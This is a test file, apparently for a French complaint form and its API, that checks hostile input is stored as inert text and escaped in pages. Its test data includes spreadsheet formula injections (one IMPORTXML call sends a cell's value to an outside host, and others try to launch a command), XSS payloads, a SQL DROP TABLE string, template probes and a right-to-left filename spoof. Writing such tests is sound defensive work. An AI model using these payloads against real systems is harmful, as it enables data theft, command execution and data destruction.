// Hostile and odd texts through the form and the API: text in the sheet, escaped in pages, nothing cut in silence.
import { afterAll, beforeAll, expect, test } from "vitest";
import { COMPLAINT, type FormRig, post, SITE, startRig, until } from "./support/form-rig.ts";

let rig: FormRig;
beforeAll(async () => {
  rig = await startRig();
});
afterAll(() => rig.stop());

const REPLACED = "\uFFFD";

/** What is typed, and what is kept when it differs. */
const TEXTS: readonly [name: string, typed: string, kept?: string, line?: string][] = [
  ["import", '=IMPORTXML("http://exemple.fr/?"&A1,"//a")'],
  ["hyperlink", '=HYPERLINK("http://exemple.fr","clic")'],
  ["command", "+cmd|' /C calc'!A0"],
  ["minus", "-2+3+cmd|' /C calc'!A0"],
  ["function", "@SUM(1+1)*cmd|' /C calc'!A0"],
  ["quoted", "'=1+1"],
  ["full width", "＝1+1"],
  ["number", "0012"],
  ["date", "12/03/2026"],
  ["boolean", "VRAI"],
  ["error", "#REF!"],
  ["tab first", "\t=1+1", "=1+1"],
  ["tabs and lines", "a\t=1+1\r\n=2+2\rb\u2028c", "a\t=1+1\n=2+2\nb\nc"],
  ["script", "<script>alert(1)</script>"],
  ["closing tag", '</textarea></span><img src=x onerror="alert(1)">'],
  ["attribute", "\" autofocus onfocus='alert(1)' x=\""],
  ["entities", "&lt;b&gt; &amp; &#x3c;"],
  ["template", "{{7*7}} #{7*7} <%= 7*7 %>"],
  ["SQL", "'); DROP TABLE submissions; --"],
  ["emoji", "👩‍👩‍👧‍👦 🇫🇷 é"],
  [
    "right to left",
    "شكوى \u202Etxt.exe\u202C \u200Ffin\u2069",
    "شكوى [RLO]txt.exe[PDF] \u200Ffin[PDI]",
    "شكوى txt.exe \u200Ffin",
  ],
  ["NUL", "a\u0000b", `a${REPLACED}b`],
  ["escape", "a\u001B[31mb\u0085c", `a${REPLACED}[31mb\nc`],
  ["byte order mark inside", "a\uFEFFb"],
  ["combining", `e${"\u0301".repeat(50)}`],
];

const decoded = (html: string) =>
  html
    .replaceAll("&lt;", "<")
    .replaceAll("&gt;", ">")
    .replaceAll("&quot;", '"')
    .replaceAll("&#39;", "'")
    .replaceAll("&amp;", "&");

async function rowOf(reference: string) {
  const found = () => rig.rows().find((row) => row.Référence === reference);
  await until(() => found() !== undefined);
  return found();
}

let callers = 0;
async function submit(values: Record<string, string>) {
  const html = await (await fetch(`${rig.address}/${SITE}`)).text();
  callers += 1;
  return fetch(`${rig.address}/${SITE}?langue=fr`, {
    method: "POST",
    headers: { "CF-Connecting-IP": `198.51.100.${callers}` },
    body: new URLSearchParams({ ...values, cle: /name="cle" value="([^"]+)"/.exec(html)?.[1] ?? "" }),
  });
}

const copied = (html: string) =>
  [...html.matchAll(/<span class="rq-text" dir="auto">([^<]*)<\/span>/g)].map(([, text]) =>
    decoded(text ?? ""),
  );

test.each(TEXTS)("by the form: %s", async (_, typed, kept = typed, onLine) => {
  const line = onLine ?? kept.replaceAll(/[\t\n]+/g, " ");
  const answer = await submit({ ...COMPLAINT, subject: typed, message: typed, name: typed });
  expect(answer.status).toBe(200);
  const html = await answer.text();
  expect(copied(html)).toEqual([line, kept, line]);
  const reference = /F[2-9A-Z]{3}-[2-9A-Z]{4}/.exec(html)?.[0] ?? "";
  expect(await rowOf(reference)).toMatchObject({ Objet: line, Message: kept, Nom: line });
});

const LONE: (typeof TEXTS)[number] = ["lone surrogates", "a\ud800b\udc00", `a${REPLACED}b${REPLACED}`];
test.each([...TEXTS, LONE])("by the API: %s", async (name, typed, kept = typed, _line = undefined) => {
  const answer = await post(rig, `cle-du-texte-${name.replaceAll(" ", "-")}`, {
    ...COMPLAINT,
    message: typed,
  });
  expect(answer.status).toBe(201);
  const { reference } = (await answer.json()) as { reference: string };
  expect(await rowOf(reference)).toMatchObject({ Message: kept });
});

test.each(TEXTS)("echoed by a page of errors, exactly as typed: %s", async (_, typed) => {
  const answer = await submit({ subject: typed, message: typed, name: typed });
  expect(answer.status).toBe(422);
  const html = await answer.text();
  const [, area = ""] = /<textarea[^>]*>\n([^<]*)<\/textarea>/.exec(html) ?? [];
  const [, subject = ""] = /<input id="subject"[^>]* value="([^"]*)"/.exec(html) ?? [];
  const sent = typed.replaceAll(/\r\n?|\n/g, "\n");
  expect([decoded(area), decoded(subject)].map((text) => text.replaceAll(/\r\n?/g, "\n"))).toEqual([
    sent,
    sent,
  ]);
});

test("the limits hold to the character, emoji counted once, and what is too long is said with its length", async () => {
  const exact = { ...COMPLAINT, subject: "😀".repeat(200), message: "é".repeat(4999).concat("😀") };
  const kept = await submit(exact);
  const reference = /F[2-9A-Z]{3}-[2-9A-Z]{4}/.exec(await kept.text())?.[0] ?? "";
  expect(await rowOf(reference)).toMatchObject({ Objet: exact.subject, Message: exact.message });
  const refused = await submit({ ...exact, subject: `${exact.subject}x`, message: `${exact.message}😀` });
  expect(refused.status).toBe(422);
  const html = await refused.text();
  expect(html).toMatch(/«\sObjet\s»\scompte 201\scaractères, 200 au plus/u);
  expect(html).toMatch(/Votre message a 5\s001\scaractères, 5\s000 au plus/u);
  expect(html).toContain(`${exact.message}😀`);
});
